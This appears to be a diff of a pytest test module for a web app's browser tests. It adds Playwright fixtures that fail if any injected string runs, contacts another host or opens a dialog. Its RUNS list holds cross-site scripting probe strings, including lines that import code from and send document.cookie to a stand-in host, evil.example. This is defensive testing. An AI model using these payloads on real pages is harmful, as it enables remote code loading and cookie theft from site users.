@@ -2,7 +2,17 @@
 
 from __future__ import annotations
 
+from collections.abc import Iterator
 from itertools import product
+from typing import TYPE_CHECKING
+
+import pytest
+
+from assistant.wiring import Kit
+from tests.api.browsing import Watched, site, watched
+
+if TYPE_CHECKING:
+    from playwright.sync_api import Browser, Page
 
 RUNS = (
     "hit()", "hit`1`", "window.hit()", "top.hit()", "alert(1)", "import('//evil.example/x')", "fetch('//evil.example/?'+document.cookie)",
@@ -35,3 +45,20 @@ def in_lots(most: int) -> list[str]:
         else:
             lots.append(words)
     return lots
+
+
+@pytest.fixture(scope="module")
+def seen(browser: Browser, kit: Kit) -> Iterator[Watched]:
+    """Whatever runs, asks elsewhere, opens a dialog or meets the page's policy is a fault."""
+    with site(kit) as (base, _), watched(browser, base) as found:
+        found.context.add_init_script("window.hit = () => console.error('a hostile string ran');")
+        yield found
+
+
+@pytest.fixture
+def page(seen: Watched) -> Iterator[Page]:
+    opened = seen.page()
+    yield opened
+    assert seen.faults == []
+    assert seen.elsewhere == []
+    opened.close()
